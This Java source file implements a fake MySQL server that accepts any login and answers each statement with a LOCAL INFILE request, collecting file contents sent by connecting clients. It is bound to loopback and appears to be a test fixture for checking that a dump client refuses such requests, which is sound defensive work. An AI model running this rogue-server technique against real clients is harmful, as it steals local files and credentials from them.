package io.geovault.mysqldump.untrusted;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * Speaks MySQL's protocol, accepts every login, answers every statement with a request for one file
 * of the client's machine, and keeps the bytes that it gets.
 */
public final class RogueServer implements AutoCloseable {
  private static final int QUIT = 1;
  private static final int QUERY = 3;
  private static final byte LOCAL_INFILE = (byte) 0xfb;
  private static final byte[] OK = {0, 0, 0, 2, 0, 0, 0};
  private static final byte[] FAST_LOGIN = {1, 3};

  private final ServerSocket listener;
  private final String plugin;
  private final Path wanted;
  private final List<String> statements = new CopyOnWriteArrayList<>();
  private final List<String> booty = new CopyOnWriteArrayList<>();

  private RogueServer(ServerSocket listener, String plugin, Path wanted) {
    this.listener = listener;
    this.plugin = plugin;
    this.wanted = wanted;
  }

  /**
   * Starts a server on the loopback address that announces that authentication plugin and requests
   * that file.
   */
  public static RogueServer start(String plugin, Path wanted) {
    try {
      var server =
          new RogueServer(
              new ServerSocket(0, 50, InetAddress.getLoopbackAddress()), plugin, wanted);
      Thread.ofVirtual().start(server::accept);
      return server;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  public int port() {
    return listener.getLocalPort();
  }

  /** Returns the statements that the server answered with a request for the file. */
  public List<String> statements() {
    return statements;
  }

  /** Returns the pieces of files that clients sent. */
  public List<String> booty() {
    return booty;
  }

  private void accept() {
    try {
      while (true) {
        Socket client = listener.accept();
        Thread.ofVirtual().start(() -> serve(client));
      }
    } catch (IOException closed) {
      // The server was closed.
    }
  }

  private void serve(Socket client) {
    try (client) {
      var in = new DataInputStream(client.getInputStream());
      OutputStream out = client.getOutputStream();
      send(out, 0, greeting());
      Packet login = read(in);
      if (plugin.startsWith("caching")) {
        send(out, login.number() + 1, FAST_LOGIN);
        send(out, login.number() + 2, OK);
      } else {
        send(out, login.number() + 1, OK);
      }
      while (answer(in, out)) {
        // Until the client disconnects.
      }
    } catch (IOException gone) {
      // Clients may disconnect at any time.
    }
  }

  private boolean answer(DataInputStream in, OutputStream out) throws IOException {
    Packet command = read(in);
    int number = command.number() + 1;
    if (command.content().charAt(0) == QUIT) {
      return false;
    }
    if (command.content().charAt(0) == QUERY) {
      statements.add(command.content().substring(1));
      var request = new ByteArrayOutputStream();
      request.write(LOCAL_INFILE);
      request.writeBytes(wanted.toString().getBytes(StandardCharsets.UTF_8));
      send(out, number, request.toByteArray());
      number = receive(in) + 1;
    }
    send(out, number, OK);
    return true;
  }

  private int receive(DataInputStream in) throws IOException {
    Packet piece = read(in);
    while (!piece.content().isEmpty()) {
      booty.add(piece.content());
      piece = read(in);
    }
    return piece.number();
  }

  private byte[] greeting() {
    var greeting = new ByteArrayOutputStream();
    greeting.writeBytes("\n8.0.40\0".getBytes(StandardCharsets.US_ASCII));
    greeting.writeBytes(new byte[] {7, 0, 0, 0});
    greeting.writeBytes("abcdefgh\0".getBytes(StandardCharsets.US_ASCII));
    // Protocol 4.1, long passwords, a default database, local files, transactions; no TLS.
    greeting.writeBytes(new byte[] {(byte) 0x89, (byte) 0xa2, 45, 2, 0, 8, 0, 21});
    greeting.writeBytes(new byte[10]);
    greeting.writeBytes(("ijklmnopqrst\0" + plugin + "\0").getBytes(StandardCharsets.US_ASCII));
    return greeting.toByteArray();
  }

  private static void send(OutputStream out, int number, byte[] bytes) throws IOException {
    var packet = new ByteArrayOutputStream();
    packet.writeBytes(
        new byte[] {(byte) bytes.length, (byte) (bytes.length >> 8), 0, (byte) number});
    packet.writeBytes(bytes);
    out.write(packet.toByteArray());
    out.flush();
  }

  private static Packet read(DataInputStream in) throws IOException {
    int length = in.readUnsignedByte() | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
    int number = in.readUnsignedByte();
    byte[] bytes = in.readNBytes(length);
    if (bytes.length < length) {
      throw new EOFException();
    }
    return new Packet(number, new String(bytes, StandardCharsets.ISO_8859_1));
  }

  /** A packet; its content has one character per byte. */
  private record Packet(int number, String content) {}

  @Override
  public void close() {
    try {
      listener.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
